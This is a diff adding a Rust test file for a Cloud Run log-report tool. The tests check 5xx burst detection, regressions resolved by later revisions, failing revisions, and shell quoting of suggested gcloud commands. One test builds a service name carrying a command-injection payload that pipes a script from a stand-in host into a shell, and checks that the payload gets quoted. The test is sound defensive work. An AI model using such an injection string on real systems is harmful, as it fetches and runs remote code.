@@ -1,0 +1,285 @@
+//! What the report concludes about services and revisions: thresholds met per service
+//! and whatever the time span, a regression that a later revision resolved, revisions
+//! whose requests fail, and suggested commands that quote what came from the logs.
+//! Inputs are Cloud Run request logs written the way Cloud Logging writes them.
+
+use crate::util::*;
+use serde_json::Value;
+
+/// One Cloud Run request log, `secs` seconds after 2025-03-01T00:00:00Z.
+fn request(i: usize, secs: i64, service: &str, revision: &str, status: u16) -> String {
+    let t = chrono_free_time(secs);
+    format!(
+        concat!(
+            r#"{{"httpRequest":{{"latency":"0.051234s","protocol":"HTTP/1.1","remoteIp":"35.243.23.142","#,
+            r#""requestMethod":"GET","requestSize":"512","requestUrl":"https://{svc}-4fkq2ycyxa-ew.a.run.app/api/orders","#,
+            r#""responseSize":"172","serverIp":"34.54.41.44","status":{status},"userAgent":"python-httpx/0.28.1"}},"#,
+            r#""insertId":"65e1a{i:09x}","labels":{{"instanceId":"0069c7a98824795ed4cca76950d82f38b005d1f6"}},"#,
+            r#""logName":"projects/shop-prod/logs/run.googleapis.com%2Frequests","receiveTimestamp":"{t}","#,
+            r#""resource":{{"labels":{{"configuration_name":"{svc}","location":"europe-west1","project_id":"shop-prod","#,
+            r#""revision_name":"{rev}","service_name":"{svc}"}},"type":"cloud_run_revision"}},"#,
+            r#""severity":"{sev}","spanId":"f3f576a33323a516","timestamp":"{t}","#,
+            r#""trace":"projects/shop-prod/traces/{i:032x}"}}"#
+        ),
+        svc = json_str(service),
+        rev = json_str(revision),
+        status = status,
+        i = i,
+        t = t,
+        sev = if status >= 500 { "ERROR" } else { "INFO" },
+    )
+}
+
+/// A string's JSON escaping, without quotes (service names here may hold `"` or `$`).
+fn json_str(s: &str) -> String {
+    let q = serde_json::to_string(s).unwrap();
+    q[1..q.len() - 1].to_string()
+}
+
+/// RFC 3339 for 2025-03-01T00:00:00Z plus `secs` (within the year).
+fn chrono_free_time(secs: i64) -> String {
+    let day = secs.div_euclid(86_400);
+    let rest = secs.rem_euclid(86_400);
+    // March has 31 days, April 30: enough for these inputs.
+    let (month, dom) = if day < 31 {
+        (3, day + 1)
+    } else {
+        (4, day - 30)
+    };
+    format!(
+        "2025-{month:02}-{dom:02}T{:02}:{:02}:{:02}.000100Z",
+        rest / 3600,
+        (rest % 3600) / 60,
+        rest % 60
+    )
+}
+
+fn report_of(lines: &[String]) -> Value {
+    let mut input = lines.join("\n");
+    input.push('\n');
+    lt(["report", "--format", "json", "-"]).stdin(input).json()
+}
+
+fn markdown_of(lines: &[String]) -> String {
+    let mut input = lines.join("\n");
+    input.push('\n');
+    lt(["report", "-"]).stdin(input).code(0).stdout
+}
+
+fn finding<'a>(r: &'a Value, id: &str) -> Option<&'a Value> {
+    r["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == id)
+}
+
+fn below(r: &Value, id: &str) -> u64 {
+    r["below_threshold"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|b| b["rule"] == id)
+        .map_or(0, |b| b["count"].as_u64().unwrap())
+}
+
+fn verdict(r: &Value, revision: &str) -> String {
+    r["revisions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|v| v["revision"] == revision)
+        .map(|v| v["verdict"].as_str().unwrap().to_string())
+        .unwrap_or_default()
+}
+
+#[test]
+fn a_burst_on_one_service_does_not_make_a_lone_5xx_elsewhere_a_finding() {
+    let mut lines = Vec::new();
+    for i in 0..12 {
+        lines.push(request(
+            i,
+            600 + i as i64 * 10,
+            "orders",
+            "orders-00007-xuf",
+            503,
+        ));
+    }
+    for i in 12..40 {
+        lines.push(request(
+            i,
+            i as i64 * 30,
+            "billing",
+            "billing-00003-kip",
+            200,
+        ));
+    }
+    lines.push(request(40, 900, "billing", "billing-00003-kip", 500));
+    let r = report_of(&lines);
+    let f = finding(&r, "HTTP_5XX_BURST").expect("the orders burst is a finding");
+    assert_eq!(f["count"], 12, "{f}");
+    let services: Vec<&Value> = f["revisions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|v| &v["service"])
+        .collect();
+    assert_eq!(services, ["orders"], "{f}");
+    assert_eq!(below(&r, "HTTP_5XX_BURST"), 1, "billing's lone 500");
+    assert_eq!(verdict(&r, "orders-00007-xuf"), "broken");
+    assert_ne!(verdict(&r, "billing-00003-kip"), "broken");
+}
+
+#[test]
+fn thresholds_do_not_depend_on_the_time_span() {
+    // Ten 5xx, one every 30 minutes: no burst.
+    let spread: Vec<String> = (0..10)
+        .map(|i| request(i, i as i64 * 1800, "orders", "orders-00007-xuf", 500))
+        .chain((10..30).map(|i| request(i, i as i64 * 900, "orders", "orders-00007-xuf", 200)))
+        .collect();
+    // Ten 5xx within two minutes: a burst.
+    let burst: Vec<String> = (0..10)
+        .map(|i| request(i, 3600 + i as i64 * 12, "orders", "orders-00007-xuf", 500))
+        .chain((10..30).map(|i| request(i, i as i64 * 900, "orders", "orders-00007-xuf", 200)))
+        .collect();
+    // The same entries alone, then with healthy traffic three weeks later, which makes
+    // the report's timeline bucket a day instead of a minute.
+    let later: Vec<String> = (100..120)
+        .map(|i| request(i, 21 * 86_400 + i as i64, "orders", "orders-00007-xuf", 200))
+        .collect();
+    for (name, lines, fires) in [("spread", &spread, false), ("burst", &burst, true)] {
+        for span in ["short", "three weeks"] {
+            let mut all = lines.clone();
+            if span != "short" {
+                all.extend(later.iter().cloned());
+            }
+            let r = report_of(&all);
+            assert_eq!(
+                finding(&r, "HTTP_5XX_BURST").is_some(),
+                fires,
+                "{name} over a {span} span (bucket {}): {}",
+                r["bucket_secs"],
+                r["status"]
+            );
+        }
+    }
+}
+
+#[test]
+fn a_later_working_revision_resolves_the_regression_without_a_rollback() {
+    let mut lines = Vec::new();
+    for i in 0..60 {
+        let (rev, status) = match i / 20 {
+            0 => ("orders-00010-aaa", 200),
+            1 => ("orders-00011-bbb", if i % 2 == 0 { 500 } else { 200 }),
+            _ => ("orders-00012-ccc", 200),
+        };
+        lines.push(request(i, i as i64 * 20, "orders", rev, status));
+    }
+    let r = report_of(&lines);
+    let reg = &r["regressions"][0];
+    assert_eq!(reg["last_good"], "orders-00010-aaa", "{reg}");
+    assert_eq!(reg["first_bad"], "orders-00011-bbb", "{reg}");
+    assert_eq!(reg["resolved_by"]["revision"], "orders-00012-ccc", "{reg}");
+    assert_eq!(reg["resolved_by"]["failures"], 0, "{reg}");
+    for a in r["actions"].as_array().unwrap() {
+        let cmd = a["command"].as_str().unwrap_or("");
+        assert!(
+            !cmd.contains("update-traffic"),
+            "a rollback after the fix: {a}"
+        );
+    }
+    assert!(r["status"]["headline"]
+        .as_str()
+        .unwrap()
+        .contains("resolved by `orders-00012-ccc`"));
+    let md = markdown_of(&lines);
+    assert!(md.contains("**Resolved by `orders-00012-ccc`**"), "{md}");
+    assert!(!md.contains("update-traffic"), "{md}");
+
+    // Without the fixed revision, the rollback is suggested.
+    let r = report_of(&lines[..40]);
+    assert!(r["regressions"][0]["resolved_by"].is_null());
+    assert!(r["actions"].as_array().unwrap().iter().any(|a| a["command"]
+        .as_str()
+        .is_some_and(|c| c.contains("--to-revisions=orders-00010-aaa=100"))));
+}
+
+#[test]
+fn a_revision_whose_requests_all_fail_is_not_working_and_the_status_says_so() {
+    // A scheduled job calls every 5 minutes and every call fails: too slow for a burst.
+    let mut lines: Vec<String> = (0..12)
+        .map(|i| request(i, i as i64 * 300, "sync", "sync-00056-tis", 500))
+        .collect();
+    // The same failures seen by Cloud Scheduler: a status and no URL.
+    lines.extend((0..12).map(|i| {
+        format!(
+            concat!(
+                r#"{{"httpRequest":{{"status":500}},"insertId":"1f254dkf7q{i:04}","#,
+                r#""jsonPayload":{{"@type":"type.googleapis.com/google.cloud.scheduler.logging.AttemptFinished","#,
+                r#""jobName":"projects/shop-prod/locations/europe-west1/jobs/sync","status":"INTERNAL","targetType":"HTTP","#,
+                r#""url":"https://sync-4fkq2ycyxa-ew.a.run.app/run"}},"#,
+                r#""logName":"projects/shop-prod/logs/cloudscheduler.googleapis.com%2Fexecutions","#,
+                r#""receiveTimestamp":"{t}","resource":{{"labels":{{"job_id":"sync","location":"europe-west1","project_id":"shop-prod"}},"#,
+                r#""type":"cloud_scheduler_job"}},"severity":"ERROR","timestamp":"{t}"}}"#
+            ),
+            i = i,
+            t = chrono_free_time(i as i64 * 300 + 1),
+        )
+    }));
+    let r = report_of(&lines);
+    assert!(finding(&r, "HTTP_5XX_BURST").is_none(), "{}", r["status"]);
+    assert_eq!(verdict(&r, "sync-00056-tis"), "unknown");
+    let headline = r["status"]["headline"].as_str().unwrap();
+    assert!(
+        headline.contains("24 errors"),
+        "errors without a revision count: {headline}"
+    );
+    assert!(
+        headline.contains("but 12 of 12 requests to `sync` failed"),
+        "{headline}"
+    );
+    // Scheduler's records name no endpoint: none is made up.
+    for i in r["impact"].as_array().unwrap() {
+        for (endpoint, _) in i["top_failing"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|e| (&e[0], &e[1]))
+        {
+            assert_ne!(endpoint, "/", "{i}");
+        }
+    }
+}
+
+#[test]
+fn suggested_commands_quote_what_came_from_the_logs() {
+    let svc = "orders$(curl evil.example|sh)";
+    let mut lines = Vec::new();
+    for i in 0..40 {
+        let (rev, status) = if i < 20 {
+            ("orders-00010-aaa", 200)
+        } else {
+            ("orders-00011-bbb", 503)
+        };
+        lines.push(request(i, i as i64 * 10, svc, rev, status));
+    }
+    let r = report_of(&lines);
+    let cmds: Vec<&str> = r["actions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|a| a["command"].as_str())
+        .collect();
+    let rollback = cmds
+        .iter()
+        .find(|c| c.contains("update-traffic"))
+        .unwrap_or_else(|| panic!("no rollback in {cmds:?}"));
+    assert!(
+        rollback.starts_with("gcloud run services update-traffic 'orders$(curl evil.example|sh)' "),
+        "{rollback}"
+    );
+    for c in &cmds {
+        assert!(!c.contains(" orders$("), "unquoted: {c}");
+    }
+}
